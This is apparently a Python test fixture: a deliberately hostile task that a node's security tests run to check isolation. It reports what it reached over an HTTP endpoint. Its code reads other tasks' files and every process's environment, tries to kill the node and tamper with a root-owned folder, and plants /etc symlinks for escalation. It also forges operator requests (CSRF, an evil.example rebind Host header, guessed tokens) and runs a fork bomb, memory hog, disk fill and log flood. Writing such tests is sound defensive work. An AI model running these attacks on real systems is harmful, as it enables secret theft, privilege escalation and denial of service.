"""A hostile task for the node's security tests: every round it tries each attack of issue 10 and
reports what it got on ``GET /report`` (through the node's public proxy).

Task variables: ``MODE`` (``spy``, ``forkbomb``, ``memhog``, ``diskfill``), ``SECRET`` (its own secret,
which it prints, logs and raises, so the tests can see it masked), ``LOOK`` (JSON list of paths to
try to read: the node's data folder, other tasks' folders, the operator's home), ``CANARY`` (a
root-owned folder to try to change), ``NODE_PID``, ``OPERATOR`` (the operator port's URL),
``SELF`` (its own task id), ``HUNT`` (another task's secret to look for).
"""

import glob
import json
import os
import signal
import socket
import sys
import time

from starlette.responses import JSONResponse
from starlette.routing import Route

from pykoii.sdk import Task


def read(path, limit=400):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode(errors="replace")
    except OSError:
        return None


def http(url, method, path, headers):
    """A raw HTTP request (no client library: a task may use anything)."""
    host_port = url.split("//", 1)[1]
    host, port = host_port.rsplit(":", 1)
    lines = [f"{method} {path} HTTP/1.1", f"Host: {headers.pop('Host', host_port)}", "Connection: close"]
    lines += [f"{k}: {v}" for k, v in headers.items()]
    body = b"task_id=x&stake=1&csrf=" if method == "POST" else b""
    lines += ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(body)}"]
    try:
        with socket.create_connection((host, int(port)), timeout=5) as sock:
            sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
            data = b""
            while chunk := sock.recv(65536):
                data += chunk
        return int(data.split(b" ", 2)[1]), data.decode(errors="replace")
    except OSError as exc:
        return -1, str(exc)


def daemon(folder):
    """A setsid daemon that would outlive the task if the node let it (double fork)."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                with open(os.path.join(folder, "heartbeat"), "w") as handle:
                    handle.write(str(time.time()))
                time.sleep(0.2)
        os._exit(0)


class Hostile(Task):
    def setup(self, ctx):
        self.report = {}
        self.flooded = False
        self.daemon_started = False

    def task(self, ctx):
        mode = ctx.variables.get("MODE", "spy")
        getattr(self, mode)(ctx)
        secret = ctx.variables.get("SECRET", "")
        ctx.log.info("my secret is %s", secret)
        print(f"stray print of the secret {secret}", file=sys.stderr, flush=True)
        raise RuntimeError(f"failing on purpose with {secret}")

    def submission(self, ctx):
        return "hostile"

    def audit(self, ctx, submission, submitter):
        return True

    # -- attacks ---------------------------------------------------------------------------------

    def spy(self, ctx):
        v = ctx.variables
        report = {"uid": os.getuid(), "pid": os.getpid(), "files": {}, "environ": {}, "cmdline": {}}
        for root in json.loads(v.get("LOOK", "[]")) + [os.path.expanduser("~"), "/root", "/home"]:
            for path in glob.glob(os.path.join(root, "**"), recursive=True)[:2000]:
                if os.path.isfile(path):
                    report["files"][path] = read(path)
        for proc in glob.glob("/proc/[0-9]*"):
            report["environ"][proc] = read(proc + "/environ", 4000)
            report["cmdline"][proc] = read(proc + "/cmdline")
        node_pid = int(v.get("NODE_PID", "0") or 0)
        for name, attempt in (
            ("kill_node", lambda: os.kill(node_pid, signal.SIGKILL)),
            ("node_mem", lambda: open(f"/proc/{node_pid}/mem", "rb").read(1)),
        ):
            try:
                attempt()
                report[name] = "succeeded"
            except Exception as exc:  # noqa: BLE001
                report[name] = type(exc).__name__
        canary = v.get("CANARY", "")
        changes = {}
        for name, attempt in (
            ("write", lambda: open(os.path.join(canary, "file"), "a").write("owned")),
            ("chmod", lambda: os.chmod(canary, 0o777)),
            ("chown", lambda: os.chown(canary, os.getuid(), os.getgid())),
            ("create", lambda: open(os.path.join(canary, "new"), "w").write("x")),
            ("etc", lambda: open("/etc/pykoii-hostile", "w").write("x")),
        ):
            try:
                attempt()
                changes[name] = "succeeded"
            except Exception as exc:  # noqa: BLE001
                changes[name] = type(exc).__name__
        report["canary"] = changes
        # the old escalation: links in the work folder to root-owned trees, for a chown walk to follow
        for name, target in (("etc-link", "/etc"), ("canary-link", canary)):
            if not os.path.lexists(name):
                os.symlink(target, name)
        os.makedirs("deep/er", exist_ok=True)
        if not os.path.lexists("deep/er/up"):
            os.symlink(canary, "deep/er/up")
        operator = v.get("OPERATOR", "")
        me = v.get("SELF", "")
        attempts = {}
        for label, method, path, headers in (
            ("stop", "POST", f"/tasks/{me}/stop", {}),
            ("page", "GET", "/", {"Accept": "text/html"}),
            ("logs", "GET", f"/tasks/{me}/logs", {}),
            ("form", "POST", f"/dashboard/tasks/{me}/withdraw", {"Origin": operator}),
            ("rebind", "GET", "/tasks", {"Host": f"evil.example:{operator.rsplit(':', 1)[-1]}"}),
            ("guess", "POST", f"/tasks/{me}/stop", {"Authorization": "Bearer guess"}),
            ("login", "GET", "/login?token=guess", {}),
        ):
            status, text = http(operator, method, path, dict(headers))
            attempts[label] = {"status": status, "csrf": 'name="csrf"' in text and 'value=""' not in text}
        report["operator"] = attempts
        hunt = v.get("HUNT", "")
        everything = json.dumps(report)
        report["found_other_secret"] = bool(hunt) and hunt in everything
        if not self.flooded:  # a log flood: would rotate away everything before it
            self.flooded = True
            line = "flood " + "x" * 1000
            for _ in range(22_000):
                ctx.log.info(line)
        if not self.daemon_started:  # once per child: it must die with the child, or with the task
            self.daemon_started = True
            daemon(os.getcwd())
        self.report = report

    def forkbomb(self, ctx):
        children = 0
        for _ in range(1000):
            try:
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
                children += 1
            except OSError:
                break
        time.sleep(5)

    def memhog(self, ctx):
        for _ in range(6):
            if os.fork() == 0:
                held = []
                try:
                    for _ in range(10):
                        held.append(b"\x01" * (20 << 20))
                except MemoryError:
                    pass
                time.sleep(60)
                os._exit(0)
        time.sleep(10)

    def diskfill(self, ctx):
        for index in range(16):
            try:
                with open(f"fill-{index}", "wb") as handle:
                    for _ in range(4):
                        handle.write(b"\0" * (1 << 20))
                        handle.flush()
                        os.fsync(handle.fileno())
            except OSError:
                break
        time.sleep(10)

    def routes(self):
        async def report(request):
            return JSONResponse(self.report)

        return [Route("/report", report)]
